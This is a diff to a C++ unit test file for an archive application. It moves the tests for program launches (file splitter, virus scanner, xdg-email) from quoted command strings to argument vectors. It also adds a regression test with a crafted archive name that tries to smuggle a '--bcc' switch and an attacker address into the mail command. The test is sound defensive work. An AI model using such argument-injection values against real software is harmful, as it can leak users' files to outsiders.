@@ -15,6 +15,7 @@ using namespace quarva::archive::testing;
 using platform::Answer;
 using platform::Buttons;
 using platform::Icon;
+using Words = std::vector<std::string>;
 
 class Document : public SessionTest {
 protected:
@@ -241,7 +242,7 @@ TEST_F(Document, OpenInTheFileSplitter)
     doc().openArchive(archive("a.zip"), "a.zip");
     EXPECT_TRUE(doc().openInSplitter());
     ASSERT_EQ(launcher.launches().size(), 1u);
-    EXPECT_EQ(launcher.launches()[0].commandLine, "\"/opt/quarva/QuarvaSplit\" \"" + doc().archivePath + "\"");
+    EXPECT_EQ(launcher.launches()[0].argv, (Words{"/opt/quarva/QuarvaSplit", doc().archivePath}));
     EXPECT_TRUE(launcher.launches()[0].shown);
 }
 
@@ -255,7 +256,7 @@ TEST_F(Document, VirusScanWithoutScannerAsksToSetOne)
     EXPECT_TRUE(launcher.launches().empty());
 }
 
-TEST_F(Document, VirusScanStartsTheScannerWithTwoBlanks)
+TEST_F(Document, VirusScanStartsTheScannerWithTheArchive)
 {
     auto cwd = std::filesystem::current_path();
     std::filesystem::create_directories(dir() / "scan");
@@ -266,7 +267,7 @@ TEST_F(Document, VirusScanStartsTheScannerWithTwoBlanks)
     EXPECT_EQ(std::filesystem::current_path(), dir() / "scan");
     std::filesystem::current_path(cwd);
     ASSERT_EQ(launcher.launches().size(), 1u);
-    EXPECT_EQ(launcher.launches()[0].commandLine, "\"" + scanner + "\"  \"" + doc().archivePath + "\"");
+    EXPECT_EQ(launcher.launches()[0].argv, (Words{scanner, doc().archivePath}));
 }
 
 TEST_F(Document, MailAttachesTheArchive)
@@ -274,7 +275,27 @@ TEST_F(Document, MailAttachesTheArchive)
     doc().openArchive(archive("a.zip"), "a.zip");
     EXPECT_TRUE(doc().sendByMail());
     ASSERT_EQ(launcher.launches().size(), 1u);
-    EXPECT_EQ(launcher.launches()[0].commandLine, "xdg-email --attach \"" + doc().archivePath + "\"");
+    EXPECT_EQ(launcher.launches()[0].argv, (Words{"xdg-email", "--attach", doc().archivePath}));
+}
+
+// A quote in the archive's name stays inside the one word that names the file: it
+// cannot add a recipient, a switch or another file to the programs started with it.
+TEST_F(Document, QuotesInTheArchiveNameStayInsideItsWord)
+{
+    app->store().writeString(suiteKey("Settings"), "Installed Path", "/opt/quarva");
+    const std::string scanner = (dir() / "scan").string();
+    app->store().writeString(suiteKey("Settings"), "Scanner Path", scanner);
+    const auto cwd = std::filesystem::current_path();
+    const std::string path = archive("Holiday\" --bcc \"attacker@evil.example.zip");
+    doc().takePath(path);
+    EXPECT_TRUE(doc().sendByMail());
+    EXPECT_TRUE(doc().openInSplitter());
+    EXPECT_TRUE(doc().scanForViruses());
+    std::filesystem::current_path(cwd);
+    ASSERT_EQ(launcher.launches().size(), 3u);
+    EXPECT_EQ(launcher.launches()[0].argv, (Words{"xdg-email", "--attach", path}));
+    EXPECT_EQ(launcher.launches()[1].argv, (Words{"/opt/quarva/QuarvaSplit", path}));
+    EXPECT_EQ(launcher.launches()[2].argv, (Words{scanner, path}));
 }
 
 TEST_F(Document, MailWithoutAMailProgramSaysSo)
